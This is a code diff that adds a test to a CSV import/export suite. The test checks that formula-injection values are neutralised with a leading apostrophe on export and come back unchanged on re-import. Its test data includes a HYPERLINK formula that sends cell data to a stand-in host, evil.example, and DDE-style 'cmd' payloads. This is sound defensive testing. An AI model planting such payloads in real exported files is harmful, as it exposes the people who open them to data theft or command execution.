@@ -1,7 +1,9 @@
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { openTestApp } from "../test/harness";
 import { createProduct, stockLevel } from "../test/sales";
 import { listenSignedIn, signedInAs } from "../test/session";
+import { neutralized, typedBack } from "./csv";
 import { maxImportMegabytes } from "./upload";
 
 let ctx: Awaited<ReturnType<typeof openTestApp>>;
@@ -49,6 +51,51 @@ describe("CSV import", () => {
     const res = await importCsv("customers", copy);
     expect(res.status).toBe(201);
     expect(await count("customers")).toBe(3);
+  });
+
+  it("neutralises formulas on export (OWASP: a leading apostrophe) and takes every value back as typed", async () => {
+    const typed = [
+      '=HYPERLINK("http://evil.example/?"&A1,"x")',
+      "+852 2345 6789",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "=1+1",
+      "'=already quoted",
+      "''+twice",
+      "-5",
+      "'-5",
+      "plain 'quote",
+    ];
+    for (const [i, name] of typed.entries())
+      await sales.agent
+        .post("/api/customers")
+        .send({ name, email: `formula-${i}@csv.test`, address: name })
+        .expect(201);
+    const exported = await sales.agent.get("/api/customers/export.csv?email_like=@csv.test&_sort=email").buffer(true);
+    const rows = parse(exported.text, { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.name)).toEqual([
+      `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
+      "'+852 2345 6789",
+      "'-2+3+cmd|' /C calc'!A0",
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "'=1+1",
+      "''=already quoted",
+      "'''+twice",
+      "-5",
+      "''-5",
+      "plain 'quote",
+    ]);
+    // no cell of the file begins with a formula character (a plain negative number is no formula)
+    for (const row of rows) for (const value of Object.values(row)) expect(value, value).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+    await ctx.db("customers").where("email", "like", "%@csv.test").delete();
+    const res = await importCsv("customers", exported.text);
+    expect(res.status, JSON.stringify(res.body)).toBe(201);
+    const back = await ctx.db("customers").where("email", "like", "%@csv.test").orderBy("email").select("name", "address");
+    expect(back.map((r) => r.name)).toEqual(typed);
+    expect(back.map((r) => r.address)).toEqual(typed);
+    // a stored text never begins with a tab or a carriage return (fields are trimmed), but a report's cell could
+    for (const text of ["\t=1+1", "\r=1+1", "'\t=1"]) expect(typedBack(neutralized(text))).toBe(text);
+    expect(neutralized("\t=1+1")).toBe("'\t=1+1");
   });
 
   it.each([
